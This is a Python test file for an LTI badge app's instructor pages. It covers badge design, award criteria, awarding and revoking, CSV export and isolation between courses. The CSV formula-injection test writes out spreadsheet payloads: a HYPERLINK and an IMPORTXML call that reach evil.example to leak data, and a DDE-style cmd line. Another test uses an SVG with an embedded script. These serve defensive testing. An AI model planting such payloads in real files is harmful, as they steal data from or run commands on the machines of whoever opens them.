"""Instructor pages over HTTP: design a badge (generated and uploaded images, hostile SVG
refused), build criteria, preview, activate, see earners, award/revoke by hand, export CSV;
learners get 403; an instructor of course A gets 404 for every page and action of course B."""

from __future__ import annotations

import csv
import re
import io
import json
from datetime import datetime, timezone

import pytest
from sqlalchemy import select

from lti_badger.models import Achievement, Activity, AuditEvent, Award, Credential, Person, Progress
from tests.factories_awards import make_achievement

SVG_WITH_SCRIPT = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'


def design(client, name="Quiz master", **extra):
    data = {"name": name, "description": "Passes the quizzes", "criteria_narrative": "Score 80% in Quiz 1.1",
            "achievement_type": "Badge", "image_source": "generate", "image_template": "shield",
            "image_colour": "#0a4f8f", "image_text": "QM", "skills": "Algebra | ESCO | https://esco.example/algebra",
            "tags": "maths, quiz", "workload_hours": "4", "eqf_level": "5", "assessment_type": "testing",
            "evidence_activities": "on", "validity_days": "365"}
    data.update(extra)
    return client.post("/course/badges/new", data, content_type="multipart/form-data")


def achievement_of(app, name):
    with app.extensions["lti_badger"].sessions() as s:
        ach = s.scalars(select(Achievement).where(Achievement.current_version.has(name=name))).one()
        ach.current_version.details  # load before the session closes
        return ach


def add_progress(app, world, person, activity_index, score):
    with app.extensions["lti_badger"].sessions() as s:
        act = s.get(Activity, world.activities[activity_index].id)
        s.add(Progress(course_id=world.course.id, activity_id=act.id, person_id=person.id, score=score,
                       max_score=10.0, completed=True, occurred_at=datetime.now(timezone.utc), source="test"))
        s.commit()


def test_design_criteria_preview_activate_and_manual_actions(app, courses, as_person):
    a, _ = courses
    teacher = as_person(a, a.instructor, "instructor")
    assert teacher.get("/course/badges/new").status_code == 200
    created = design(teacher)
    assert created.status_code == 303 and "/criteria" in created.headers["Location"]
    ach = achievement_of(app, "Quiz master")
    version = ach.current_version
    assert version.image_type == "image/png" and version.details["alignments"][0]["targetFramework"] == "ESCO"
    assert version.details["eqf_level"] == 5 and version.details["assessment"] == "testing"
    assert version.validity_days == 365

    image = teacher.get(f"/course/badges/{ach.id}/image")
    assert image.status_code == 200 and image.mimetype == "image/png"

    add_progress(app, a, a.learners[0], 0, 9.0)  # 90% on Quiz 1.1
    add_progress(app, a, a.learners[1], 0, 5.0)
    page = teacher.get(f"/course/badges/{ach.id}/criteria").get_data(as_text=True)
    act = a.activities[0].lms_id
    assert f'name="activity:{act}"' in page
    form = {f"activity:{act}": "score", f"activity_pct:{act}": "80", "combine": "all", "action": "preview"}
    preview = teacher.post(f"/course/badges/{ach.id}/criteria", form)
    text = preview.get_data(as_text=True)
    assert preview.status_code == 200, text
    assert "Of 3 learners: 1 would earn it now" in text
    assert a.learners[0].name in text
    rule_json = json.dumps({"type": "activity_score", "activity": act, "min_percent": 80.0})
    saved = teacher.post(f"/course/badges/{ach.id}/criteria", {"rule_json": rule_json, "action": "save_activate"})
    assert saved.status_code == 303
    with app.extensions["lti_badger"].sessions() as s:
        fresh = s.get(Achievement, ach.id)
        assert fresh.state == "active" and fresh.current_version.rule["min_percent"] == 80.0
        holders = s.scalars(select(Award.person_id).where(Award.achievement_id == ach.id)).all()
    assert holders == [a.learners[0].id]  # retroactive award on activation
    with app.extensions["lti_badger"].sessions() as s:
        document = json.loads(s.scalars(select(Credential.document)).one())
    achievement = document["credentialSubject"]["achievement"]
    assert achievement["name"] == "Quiz master" and achievement["tag"] == ["maths", "quiz"]
    assert {a["targetName"] for a in achievement["alignment"]} == {"Algebra", "EQF level 5"}
    assert achievement["assessmentType"] == "testing" and achievement["timeInvestment"] == 4

    earners = teacher.get("/course/earners").get_data(as_text=True)
    assert "Awards over time" in earners and "<svg" in earners and "Earned" in earners

    exp = teacher.get(f"/course/earners/{a.learners[1].id}/{ach.id}").get_data(as_text=True)
    assert "Does not meet the criteria yet." in exp and "observed 50%, needed 80%" in exp

    refused = teacher.post("/course/awards", {"person_id": a.learners[1].id, "achievement_id": ach.id, "reason": ""})
    assert refused.status_code == 400
    ok = teacher.post("/course/awards", {"person_id": a.learners[1].id, "achievement_id": ach.id, "reason": "oral exam"})
    assert ok.status_code == 303
    with app.extensions["lti_badger"].sessions() as s:
        award = s.scalars(select(Award).where(Award.person_id == a.learners[1].id)).one()
    revoked = teacher.post(f"/course/awards/{award.id}/revoke", {"reason": "mistake"})
    assert revoked.status_code == 303
    with app.extensions["lti_badger"].sessions() as s:
        assert s.get(Award, award.id).status == "revoked"

    exported = teacher.get("/course/earners.csv")
    rows = list(csv.reader(io.StringIO(exported.get_data(as_text=True))))
    assert rows[0][0] == "Learner" and len(rows) == 1 + 3
    assert {r[4] for r in rows[1:]} == {"Active", "Revoked", "Not earned"}



def test_earners_csv_neutralises_formulas(app, courses, as_person):
    """Issue 12 finding 5: a learner name, e-mail, LTI user id or award reason that starts with
    = + - @, a tab or a CR reaches the spreadsheet as text (a leading quote), read back with
    Python's csv reader."""
    a, _ = courses
    hostile = {"name": '=HYPERLINK("https://evil.example/?"&B2,"open")', "email": "@SUM(1+1)@evil.example",
               "sub": "+cmd|' /C calc'!A0"}
    with app.extensions["lti_badger"].sessions() as s:
        person = s.get(Person, a.learners[0].id)
        for field, value in hostile.items():
            setattr(person, field, value)
        ach, _ = make_achievement(s, a.course, name="-Badge")
        s.commit()
    teacher = as_person(a, a.instructor, "instructor")
    reason = '=IMPORTXML("https://evil.example","//a")'
    assert teacher.post("/course/awards", {"person_id": a.learners[0].id, "achievement_id": ach.id,
                                           "reason": reason}).status_code == 303
    rows = list(csv.reader(io.StringIO(teacher.get("/course/earners.csv").get_data(as_text=True))))
    mine = [r for r in rows[1:] if r[0].endswith('"open")')]
    assert mine and mine[0][:4] == ["'" + hostile["name"], "'" + hostile["email"], "'" + hostile["sub"], "'-Badge"]
    assert mine[0][8] == "'" + reason
    assert not [cell for row in rows for cell in row if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]


def test_hostile_svg_upload_is_refused_and_nothing_is_stored(app, courses, as_person):
    a, _ = courses
    teacher = as_person(a, a.instructor, "instructor")
    response = teacher.post("/course/badges/new", {"name": "Evil", "image_source": "upload",
                                                   "image_file": (io.BytesIO(SVG_WITH_SCRIPT), "x.svg")},
                            content_type="multipart/form-data")
    assert response.status_code == 400 and "script" in response.get_data(as_text=True)
    with app.extensions["lti_badger"].sessions() as s:
        assert s.scalars(select(Achievement)).all() == []


def test_clean_svg_upload_is_stored_sanitised(app, courses, as_person):
    a, _ = courses
    teacher = as_person(a, a.instructor, "instructor")
    svg = b'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 8 8"><!-- c --><rect width="8" height="8"/></svg>'
    response = teacher.post("/course/badges/new", {"name": "Clean", "image_source": "upload",
                                                   "image_file": (io.BytesIO(svg), "c.svg")},
                            content_type="multipart/form-data")
    assert response.status_code == 303
    ach = achievement_of(app, "Clean")
    served = teacher.get(f"/course/badges/{ach.id}/image")
    assert served.mimetype == "image/svg+xml" and b"<!--" not in served.data
    assert "sandbox" in served.headers["Content-Security-Policy"]


def test_bad_rule_shows_the_reason_and_changes_nothing(app, courses, as_person):
    a, _ = courses
    teacher = as_person(a, a.instructor, "instructor")
    design(teacher, name="Strict")
    ach = achievement_of(app, "Strict")
    response = teacher.post(f"/course/badges/{ach.id}/criteria", {"combine": "all", "action": "preview"})
    assert response.status_code == 400 and "at least one requirement" in response.get_data(as_text=True)
    broken = teacher.post(f"/course/badges/{ach.id}/criteria", {"rule_json": "{not json", "action": "save"})
    assert broken.status_code == 400 and "not valid JSON" in broken.get_data(as_text=True)
    schema = teacher.post(f"/course/badges/{ach.id}/criteria",
                          {"rule_json": json.dumps({"type": "all", "rules": []}), "action": "save"})
    assert schema.status_code == 400
    with app.extensions["lti_badger"].sessions() as s:
        assert len(s.get(Achievement, ach.id).versions) == 1


def test_csrf_missing_on_instructor_post_is_refused(app, courses, as_person):
    a, _ = courses
    teacher = as_person(a, a.instructor, "instructor")
    response = teacher.post("/course/badges/new", {"name": "No token"}, csrf=False)
    assert response.status_code == 400 and "security token" in response.get_data(as_text=True)


def _instructor_routes(a_ach: int, a_person: int, a_award: int):
    """Every instructor route, with ids from the course the test aims at."""
    gets = ["/course/badges", "/course/badges/new", f"/course/badges/{a_ach}/edit", f"/course/badges/{a_ach}/criteria",
            "/course/earners", f"/course/earners/{a_person}/{a_ach}", "/course/review", "/course/earners.csv",
            f"/course/badges/{a_ach}/image", "/course/awards/bulk", "/course/"]
    posts = [(f"/course/badges/{a_ach}/edit", {"name": "x", "image_source": "keep"}),
             (f"/course/badges/{a_ach}/state", {"action": "archive"}),
             (f"/course/badges/{a_ach}/criteria", {"combine": "all", "action": "preview"}),
             ("/course/awards", {"person_id": a_person, "achievement_id": a_ach, "reason": "r"}),
             (f"/course/awards/{a_award}/revoke", {"reason": "r"}),
             (f"/course/awards/{a_award}/suspend", {"reason": "r"}),
             (f"/course/awards/{a_award}/reinstate", {"reason": "r"}),
             (f"/course/awards/{a_award}/keep", {"reason": "r"}),
             ("/course/awards/bulk", {"achievement_id": a_ach, "action": "award", "rows": "someone"})]
    return gets, posts


@pytest.fixture
def course_b_objects(app, courses, as_person):
    _, b = courses
    b_teacher = as_person(b, b.instructor, "instructor")
    design(b_teacher, name="B badge")
    ach = achievement_of(app, "B badge")
    assert b_teacher.post("/course/awards", {"person_id": b.learners[0].id, "achievement_id": ach.id,
                                             "reason": "given"}).status_code == 303
    with app.extensions["lti_badger"].sessions() as s:
        award = s.scalars(select(Award).where(Award.achievement_id == ach.id)).one()
    return ach.id, b.learners[0].id, award.id


def test_instructor_of_course_a_gets_404_for_everything_of_course_b(app, courses, as_person, course_b_objects):
    a, _ = courses
    teacher_a = as_person(a, a.instructor, "instructor")
    ach_b, person_b, award_b = course_b_objects
    gets, posts = _instructor_routes(ach_b, person_b, award_b)
    course_wide = {"/course/badges", "/course/badges/new", "/course/earners", "/course/review", "/course/earners.csv",
                   "/course/awards/bulk", "/course/"}
    for path in gets:
        response = teacher_a.get(path)
        if path in course_wide:
            assert response.status_code == (303 if path == "/course/" else 200), path
            assert b"B badge" not in response.data and b"Learner1 B" not in response.data, path
        else:
            assert response.status_code == 404, path
    for path, data in posts:
        assert teacher_a.post(path, data).status_code == 404, path
    with app.extensions["lti_badger"].sessions() as s:
        award = s.get(Award, award_b)
        assert award.status == "active" and s.get(Achievement, ach_b).state == "draft"


def test_learner_gets_403_on_every_instructor_page(app, courses, as_person, course_b_objects):
    a, _ = courses
    learner = as_person(a, a.learners[0], "learner")
    gets, posts = _instructor_routes(1, 1, 1)
    for path in gets:
        if path.endswith("/image"):
            continue  # learners see badge images of their own course
        assert learner.get(path).status_code == 403, path
    for path, data in posts:
        assert learner.post(path, data).status_code == 403, path


def test_no_launch_is_401(client):
    assert client.get("/course/badges").status_code == 401
    assert client.get("/me/badges").status_code == 401


def test_course_isolation_over_real_http(app, courses, as_person, course_b_objects):
    """The same 404s through a real socket (the WSGI server, headers and redirects as a browser sees them)."""
    import requests

    from tests.conftest import LiveServer

    a, _ = courses
    teacher_a = as_person(a, a.instructor, "instructor")
    server = LiveServer(app).start()
    try:
        http = requests.Session()
        ach_b, person_b, award_b = course_b_objects
        gets, posts = _instructor_routes(ach_b, person_b, award_b)
        for path in gets:
            status = http.get(f"{server.url}{path}", headers={"X-Launch-Token": teacher_a.token},
                              allow_redirects=False).status_code
            expected = 404
            if path in ("/course/badges", "/course/badges/new", "/course/earners", "/course/review",
                        "/course/earners.csv", "/course/awards/bulk"):
                expected = 200
            elif path == "/course/":
                expected = 303
            assert status == expected, path
        for path, data in posts:
            body = {**data, "lt": teacher_a.token, "csrf_token": teacher_a.csrf()}
            assert http.post(f"{server.url}{path}", data=body, allow_redirects=False).status_code == 404, path
            no_csrf = {**data, "lt": teacher_a.token}
            assert http.post(f"{server.url}{path}", data=no_csrf, allow_redirects=False).status_code == 400, path
    finally:
        server.stop()


def test_review_queue_suspend_and_reinstate_and_funnel(app, courses, as_person):
    a, _ = courses
    teacher = as_person(a, a.instructor, "instructor")
    design(teacher, name="Two quizzes")
    ach = achievement_of(app, "Two quizzes")
    q1, q2 = a.activities[0].lms_id, a.activities[1].lms_id
    rule = {"type": "all", "rules": [{"type": "activity_completed", "activity": q1},
                                     {"type": "activity_completed", "activity": q2}]}
    assert teacher.post(f"/course/badges/{ach.id}/criteria",
                        {"rule_json": json.dumps(rule), "action": "save_activate"}).status_code == 303
    add_progress(app, a, a.learners[0], 0, 9.0)
    add_progress(app, a, a.learners[1], 0, 9.0)
    add_progress(app, a, a.learners[1], 1, 9.0)
    # The funnel: 2 learners completed quiz 1.1, 1 completed quiz 1.2, 0 hold the badge (progress came in
    # without an ingest, so the rule has not awarded anyone yet).
    page = teacher.get(f"/course/earners?funnel={ach.id}").get_data(as_text=True)
    assert re.search(r"<td>Quiz 1\.1</td><td class=\"num\">2</td>", page), page
    assert re.search(r"<td>Quiz 1\.2</td><td class=\"num\">1</td>", page)
    assert re.search(r"<td>whole badge</td><td class=\"num\">1</td>", page)
    assert 'aria-current="page"' in page

    assert teacher.post("/course/awards", {"person_id": a.learners[1].id, "achievement_id": ach.id,
                                           "reason": "checked"}).status_code == 303
    with app.extensions["lti_badger"].sessions() as s:
        award = s.scalars(select(Award).where(Award.achievement_id == ach.id)).one()
    assert teacher.post(f"/course/awards/{award.id}/suspend", {"reason": "integrity check"}).status_code == 303
    queue = teacher.get("/course/review").get_data(as_text=True)
    assert "integrity check" in queue and a.learners[1].name in queue and "Suspended" in queue
    assert teacher.post(f"/course/awards/{award.id}/reinstate", {"reason": "cleared", "back": "review"}).status_code == 303
    assert "Nothing to review." in teacher.get("/course/review").get_data(as_text=True)
    with app.extensions["lti_badger"].sessions() as s:
        assert s.get(Award, award.id).status == "active"


def test_activate_and_archive_from_the_badge_list(app, courses, as_person):
    a, _ = courses
    teacher = as_person(a, a.instructor, "instructor")
    design(teacher, name="Toggle")
    ach = achievement_of(app, "Toggle")
    listing = teacher.get("/course/badges").get_data(as_text=True)
    assert ">Activate<" not in listing and ">Delete draft<" in listing  # no rule yet: nothing to activate
    rule = {"type": "activity_completed", "activity": a.activities[0].lms_id}
    assert teacher.post(f"/course/badges/{ach.id}/criteria", {"rule_json": json.dumps(rule), "action": "save"}).status_code == 303
    assert ">Activate<" in teacher.get("/course/badges").get_data(as_text=True)
    assert teacher.post(f"/course/badges/{ach.id}/state", {"action": "activate"}).status_code == 303
    assert teacher.post(f"/course/badges/{ach.id}/state", {"action": "archive"}).status_code == 303
    assert teacher.post(f"/course/badges/{ach.id}/state", {"action": "explode"}).status_code == 400
    with app.extensions["lti_badger"].sessions() as s:
        assert s.get(Achievement, ach.id).state == "archived"
    page = teacher.get(f"/course/badges?saved={ach.id}").get_data(as_text=True)
    assert "Archived" in page and "Saved: Toggle." in page


def test_bulk_award_and_revoke_from_csv(app, courses, as_person):
    a, b = courses
    teacher = as_person(a, a.instructor, "instructor")
    design(teacher, name="Bulk")
    ach = achievement_of(app, "Bulk")
    rows = f"{a.learners[0].email},attended\n{a.learners[1].sub}\n{b.learners[0].email},other course\n"
    page = teacher.post("/course/awards/bulk", {"achievement_id": ach.id, "action": "award", "rows": rows,
                                                "reason": "workshop", "step": "apply"})
    text = page.get_data(as_text=True)
    assert page.status_code == 200 and "3 rows processed." in text
    assert text.count(">awarded<") == 2 and ">no such learner<" in text
    with app.extensions["lti_badger"].sessions() as s:
        reasons = sorted(s.scalars(select(Award.reason).where(Award.achievement_id == ach.id)).all())
    assert reasons == ["attended", "workshop"]
    csv_file = (io.BytesIO(f"{a.learners[0].email},left\n".encode()), "rows.csv")
    revoked = teacher.post("/course/awards/bulk", {"achievement_id": ach.id, "action": "revoke", "file": csv_file,
                                                                   "step": "apply"},
                           content_type="multipart/form-data")
    assert ">revoked<" in revoked.get_data(as_text=True)
    b_teacher = as_person(b, b.instructor, "instructor")
    assert b_teacher.post("/course/awards/bulk", {"achievement_id": ach.id, "action": "award", "rows": "x"}).status_code == 404


def test_edit_policy_flag_puts_holders_who_no_longer_qualify_in_review(app, courses, as_person):
    a, _ = courses
    teacher = as_person(a, a.instructor, "instructor")
    design(teacher, name="Flagged")
    ach = achievement_of(app, "Flagged")
    act = a.activities[0].lms_id
    add_progress(app, a, a.learners[0], 0, 7.0)  # 70%
    easy = {"type": "activity_score", "activity": act, "min_percent": 60}
    assert teacher.post(f"/course/badges/{ach.id}/criteria", {"rule_json": json.dumps(easy),
                                                              "action": "save_activate"}).status_code == 303
    form = {f"activity:{act}": "score", f"activity_pct:{act}": "90", "action": "preview"}
    preview = teacher.post(f"/course/badges/{ach.id}/criteria", form).get_data(as_text=True)
    assert "1 hold it but would not meet the new rule" in preview and 'name="edit_policy"' in preview
    hard = {"type": "activity_score", "activity": act, "min_percent": 90}
    assert teacher.post(f"/course/badges/{ach.id}/criteria", {"rule_json": json.dumps(hard), "action": "save",
                                                              "edit_policy": "flag"}).status_code == 303
    queue = teacher.get("/course/review").get_data(as_text=True)
    assert a.learners[0].name in queue and "needs review" in queue and ">Suspend<" in queue
    assert ">Keep (clear the flag)<" in queue
    with app.extensions["lti_badger"].sessions() as s:
        flagged = s.scalars(select(Award).where(Award.achievement_id == ach.id)).one()
    assert teacher.post(f"/course/awards/{flagged.id}/keep", {"reason": "", "back": "review"}).status_code == 400
    assert teacher.post(f"/course/awards/{flagged.id}/keep", {"reason": "fine as it is"}, csrf=False).status_code == 400
    with app.extensions["lti_badger"].sessions() as s:
        assert s.get(Award, flagged.id).needs_review
    kept = teacher.post(f"/course/awards/{flagged.id}/keep", {"reason": "fine as it is", "back": "review"})
    assert kept.status_code == 303 and kept.headers["Location"].split("?")[0].endswith("/course/review")
    assert "Nothing to review." in teacher.get("/course/review").get_data(as_text=True)
    with app.extensions["lti_badger"].sessions() as s:
        award = s.get(Award, flagged.id)
        assert award.status == "active" and not award.needs_review
        event = s.scalars(select(AuditEvent).where(AuditEvent.action == "award.review_cleared")).one()
        assert event.reason == "fine as it is" and event.actor_id == str(a.instructor.id)
    # Nothing flagged any more: keeping again is a conflict.
    assert teacher.post(f"/course/awards/{flagged.id}/keep", {"reason": "again"}).status_code == 409
    assert teacher.post(f"/course/badges/{ach.id}/criteria", {"rule_json": json.dumps(hard), "action": "save",
                                                              "edit_policy": "shrug"}).status_code == 400
